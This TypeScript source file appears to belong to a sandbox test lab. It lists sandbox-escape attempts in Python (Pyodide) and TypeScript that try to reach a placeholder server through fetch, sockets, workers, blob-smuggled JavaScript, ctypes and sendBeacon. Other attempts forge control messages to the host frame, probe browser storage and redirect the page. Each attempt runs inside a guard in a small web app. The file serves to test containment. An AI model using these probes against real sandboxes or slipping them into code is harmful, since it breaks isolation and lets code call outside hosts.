import type { Language } from './lab-page';

/** A way in which a sample might try to leave its sandbox. */
export interface BreakOut {
  /** Completes “A sample can't get out …”. */
  readonly by: string;
  readonly language: Language;
  /**
   * Statements, run when the program is loaded, inside a guard that prints `refused: …` for what is thrown. They call
   * `got(x)` with whatever they got hold of; `URL_HERE` stands for the listening server's address.
   */
  readonly attempt: string;
  /** A line that shows that the attempt came as far as it was meant to. */
  readonly prints?: string;
}

export const BREAK_OUTS: readonly BreakOut[] = [
  {
    by: 'by the js module: fetch',
    language: 'python',
    attempt: 'import js\nasyncio.ensure_future(js.fetch("URL_HEREfetch"))',
  },
  {
    by: 'by the js module: a synchronous XMLHttpRequest',
    language: 'python',
    attempt: `import js
request = js.XMLHttpRequest.new()
request.open("GET", "URL_HERExhr", False)
request.send()
got(request.status)`,
  },
  {
    by: 'by sockets, events, scripts and workers of the browser',
    language: 'python',
    attempt: `import js
for name, address in (("WebSocket", "URL_HEREsocket".replace("http", "ws")), ("EventSource", "URL_HEREevents"),
                      ("Worker", "URL_HEREworker"), ("WebTransport", "URL_HEREtransport".replace("http:", "https:"))):
    try:
        getattr(js, name).new(address)
    except Exception as error:
        print("refused:", name, error)
js.importScripts("URL_HEREscripts")
got("a script")`,
  },
  {
    by: 'by JavaScript of its own, smuggled in as a blob',
    language: 'python',
    attempt: `import js
from pyodide.ffi import to_js
code = """
  self.smuggled = 'it ran';
  const tries = [
    () => import('URL_HEREimport'),
    () => importScripts('URL_HEREscripts'),
    () => fetch('URL_HEREfetch', { mode: 'no-cors' }),
    () => new WebSocket('URL_HEREsocket'.replace('http', 'ws')),
    () => new Worker('URL_HEREworker'),
    () => navigator.sendBeacon('URL_HEREbeacon'),
    () => caches.open('x').then((cache) => cache.add('URL_HEREcache')),
  ];
  for (const go of tries) try { Promise.resolve(go()).catch(() => {}); } catch {}
"""
blob = js.URL.createObjectURL(js.Blob.new(to_js([code])))
for run in (js.importScripts, js.Worker.new):
    try:
        run(blob)
    except Exception as error:
        print("refused:", error)
print("proof:", js.smuggled)`,
    prints: 'proof: it ran',
  },
  {
    by: 'by forged orders to the frame that keeps it',
    language: 'python',
    attempt: `import js
from pyodide.ffi import to_js
for number in range(1, 20):
    for kind in ("kill", "spawn", "stock"):
        order = {"kind": kind, "id": number, "script": None, "files": {}}
        js.postMessage(to_js(order, dict_converter=js.Object.fromEntries))`,
  },
  {
    by: 'by ctypes into the interpreter’s own C functions',
    language: 'python',
    attempt: `import ctypes
ctypes.CDLL(None).emscripten_run_script(b"fetch('URL_HEREctypes', { mode: 'no-cors' })")`,
  },
  {
    by: 'by the standard library’s sockets',
    language: 'python',
    attempt: `import http.client
connection = http.client.HTTPConnection("URL_HERE"[7:-1], timeout=1)
connection.request("GET", "/socket")
got(connection.getresponse().status)`,
  },
  {
    by: 'into the browser’s storage',
    language: 'python',
    attempt: `import js
for name in ("localStorage", "sessionStorage", "cookieStore"):
    if hasattr(js, name):
        got(name)
got(js.indexedDB.open("x").readyState)`,
  },
  {
    by: 'to the page that it runs in',
    language: 'python',
    attempt: `import js
for name in ("window", "document", "parent", "top", "opener", "frames"):
    if hasattr(js, name):
        got(name)
js.location.href = "URL_HEREtop"
js.location.assign("URL_HEREtop")`,
  },
  {
    by: 'by the browser’s own functions',
    language: 'typescript',
    attempt: `const outside = globalThis as any;
for (const name of ['XMLHttpRequest', 'WebSocket', 'EventSource', 'Worker', 'importScripts', 'indexedDB', 'localStorage',
  'caches', 'document', 'window', 'top', 'parent', 'self', 'postMessage', 'require', 'std', 'os', 'WebAssembly']) {
  if (outside[name] !== undefined && outside[name] !== globalThis) got(name);
}
await outside.fetch('URL_HEREfetch');`,
  },
  {
    by: 'by import() of an address',
    language: 'typescript',
    attempt: `const address = 'URL_HEREimport';
const module = await import(address);
got(module);`,
  },
  {
    by: 'by a function made from text',
    language: 'typescript',
    attempt: `const text = "return typeof fetch === 'function' ? fetch('URL_HEREfunction') : XMLHttpRequest";
got(await (async () => {}).constructor(text)());`,
  },
];

/** The whole program: the attempt at import, in a guard, and an app that serves as usual. */
export function breakOutProgram({ language, attempt }: BreakOut, url: string): string {
  const body = attempt.replaceAll('URL_HERE', url);
  if (language === 'python')
    return `import asyncio
from fastapi import FastAPI

app = FastAPI()


def got(what):
    print("reached:", what)


try:
${body.replace(/^/gm, '    ')}
except BaseException as error:
    print("refused:", type(error).__name__, error)


@app.get("/visits/{user}")
async def visit(user: int):
    return {"user": user}
`;
  return `import { Hono } from 'hono';

const app = new Hono();
const got = (what: unknown) => console.log('reached:', String(what));
try {
${body.replace(/^/gm, '  ')}
} catch (error) {
  console.log('refused:', String(error));
}

app.get('/visits/:user', (c) => c.json({ user: c.req.param('user') }));

export default app;
`;
}
